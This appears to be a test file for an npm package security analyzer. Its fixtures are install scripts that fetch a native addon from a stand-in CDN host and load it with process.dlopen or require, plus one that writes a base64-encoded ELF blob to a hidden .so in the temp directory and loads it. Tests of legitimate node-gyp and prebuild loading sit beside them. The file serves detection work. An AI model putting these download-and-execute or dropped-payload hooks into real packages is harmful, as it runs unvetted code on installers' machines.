/**
 * A native library written by the code and then loaded into the process (docs/package-analysis.md,
 * "npm22"): bytes fetched at run time and piped or written into a file that `process.dlopen` or
 * `require` then loads is download-and-execute (`download_run`, CRITICAL, as for a `.js` module);
 * a `.node` / `.so` / `.dll` / `.dylib` written from bytes the code decodes (base64, hex) and loaded is a
 * dropped payload (`native_payload_load`, CRITICAL). Honest twins: node-gyp addons loaded with
 * `bindings` / `node-gyp-build` (no finding above INFO), a bundled prebuild loaded with `process.dlopen` at import, a
 * downloaded addon that is saved and not loaded by the installer.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';

const level = (a: ArchiveAnalysis) =>
  packageVerdict(reviewPackage({ registry: 'npm', name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const npm = (files: Record<string, string | Buffer>) => analyzeArchive(npmTgz(files as Record<string, string>), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
const rules = (a: ArchiveAnalysis) => a.findings.filter((f) => f.severity !== 'INFO').map((f) => `${f.ruleId}:${f.severity}`);
const has = (a: ArchiveAnalysis, id: string) => a.findings.some((f) => f.ruleId === id && (f.severity === 'CRITICAL' || f.severity === 'HIGH'));

const pkg = (scripts: Record<string, string> = { install: 'node install.js' }, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'fast-hash-native', version: '2.1.0', main: 'index.js', scripts, ...extra });
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(248, 1)]);

test('a prebuild fetched and piped into a file, then loaded with process.dlopen at install: download_run (BLOCKED)', async () => {
  const a = await npm({
    'package.json': pkg(),
    'index.js': 'module.exports = {};\n',
    'install.js': `const https = require('https');
const fs = require('fs');
const path = require('path');
const file = path.join(__dirname, 'build', 'hash.node');
https.get('https://cdn.fast-hash-builds.example/v2/' + process.platform + '-' + process.arch + '/hash.node', (res) => {
  const out = fs.createWriteStream(file);
  res.pipe(out);
  out.on('finish', () => {
    const m = { exports: {} };
    process.dlopen(m, file);
    m.exports.init();
  });
});
`,
  });
  assert.ok(has(a, 'download_run'), rules(a).join(' '));
  assert.is(level(a), 'BLOCKED');
});

test('variants: fetch + pipeline into a write stream + dlopen (ESM); axios arraybuffer written then require of the .node; base64 bytes in the source written to a .so and loaded', async () => {
  const esm = await npm({
    'package.json': JSON.stringify({ name: 'fast-hash-native', version: '2.1.0', type: 'module', scripts: { postinstall: 'node scripts/fetch.mjs' } }),
    'scripts/fetch.mjs': `import { createWriteStream } from 'node:fs';
import { pipeline } from 'node:stream/promises';
import { Readable } from 'node:stream';
import os from 'node:os';
import path from 'node:path';
const target = path.join(os.tmpdir(), 'fh-' + process.pid + '.node');
const res = await fetch('https://cdn.fast-hash-builds.example/latest/' + process.platform + '.node');
const out = createWriteStream(target);
await pipeline(Readable.fromWeb(res.body), out);
const m = { exports: {} };
process.dlopen(m, target);
`,
  });
  assert.ok(has(esm, 'download_run'), `esm: ${rules(esm).join(' ')}`);

  const axios = await npm({
    'package.json': pkg({ postinstall: 'node install.js' }),
    'install.js': `const axios = require('axios');
const fs = require('fs');
const addon = __dirname + '/native/hash.node';
axios.get('https://cdn.fast-hash-builds.example/hash.node', { responseType: 'arraybuffer' }).then((r) => {
  fs.writeFileSync(addon, Buffer.from(r.data));
  require(addon).warmup();
});
`,
  });
  assert.ok(has(axios, 'download_run'), `axios: ${rules(axios).join(' ')}`);

  const dropped = await npm({
    'package.json': pkg(),
    'install.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const BLOB = '${elf.toString('base64')}';
const lib = path.join(os.tmpdir(), '.libfh.so');
fs.writeFileSync(lib, Buffer.from(BLOB, 'base64'));
const m = { exports: {} };
process.dlopen(m, lib, os.constants.dlopen.RTLD_NOW);
`,
  });
  assert.ok(has(dropped, 'native_payload_load'), `dropped: ${rules(dropped).join(' ')}`);
  assert.is(level(dropped), 'BLOCKED');
});

test('honest twins: node-gyp addons loaded with bindings / node-gyp-build keep their level (MONITORED for the build, no finding); a bundled prebuild loaded by dlopen at import, a downloaded addon saved and not loaded carry neither rule', async () => {
  const bindings = await npm({
    'package.json': JSON.stringify({ name: 'fast-hash-native', version: '2.1.0', main: 'index.js', gypfile: true, dependencies: { bindings: '^1.5.0' } }),
    'binding.gyp': "{ 'targets': [{ 'target_name': 'hash', 'sources': ['src/hash.cc'] }] }\n",
    'src/hash.cc': '#include <node_api.h>\nNAPI_MODULE_INIT() { return exports; }\n',
    'index.js': "module.exports = require('bindings')('hash');\n",
  });
  // Their build at install (node-gyp, implicit or node-gyp-build) keeps them MONITORED, as before: no finding above INFO.
  assert.is(level(bindings), 'MONITORED', rules(bindings).join(' '));
  assert.equal(rules(bindings), []);
  const gypBuild = await npm({
    'package.json': JSON.stringify({ name: 'fast-hash-native', version: '2.1.0', main: 'index.js', scripts: { install: 'node-gyp-build' }, dependencies: { 'node-gyp-build': '^4.8.0' } }),
    'binding.gyp': "{ 'targets': [{ 'target_name': 'hash', 'sources': ['src/hash.cc'] }] }\n",
    'src/hash.cc': '#include <node_api.h>\nNAPI_MODULE_INIT() { return exports; }\n',
    'index.js': "module.exports = require('node-gyp-build')(__dirname);\n",
  });
  assert.is(level(gypBuild), 'MONITORED', rules(gypBuild).join(' '));
  assert.equal(rules(gypBuild), []);
  const prebuild = await npm({
    'package.json': JSON.stringify({ name: 'fast-hash-native', version: '2.1.0', main: 'index.js' }),
    'index.js': "const path = require('path');\nconst m = { exports: {} };\nprocess.dlopen(m, path.join(__dirname, 'prebuilds', process.platform + '-' + process.arch, 'hash.node'));\nmodule.exports = m.exports;\n",
    'prebuilds/linux-x64/hash.node': elf,
  });
  assert.not.ok(has(prebuild, 'download_run') || has(prebuild, 'native_payload_load'), rules(prebuild).join(' '));
  assert.ok(level(prebuild) === 'CLEAR' || level(prebuild) === 'MONITORED', rules(prebuild).join(' '));
  const saved = await npm({
    'package.json': pkg(),
    'index.js': "module.exports = require('./build/hash.node');\n",
    'install.js': `const https = require('https');
const fs = require('fs');
const path = require('path');
const file = path.join(__dirname, 'build', 'hash.node');
https.get((process.env.FAST_HASH_MIRROR || 'https://cdn.fast-hash-builds.example') + '/v2/hash.node', (res) => res.pipe(fs.createWriteStream(file)));
`,
  });
  assert.not.ok(has(saved, 'download_run') || has(saved, 'native_payload_load'), rules(saved).join(' '));
  assert.ok(level(saved) === 'MONITORED', `${level(saved)} ${rules(saved).join(' ')}`);
});

test.run();
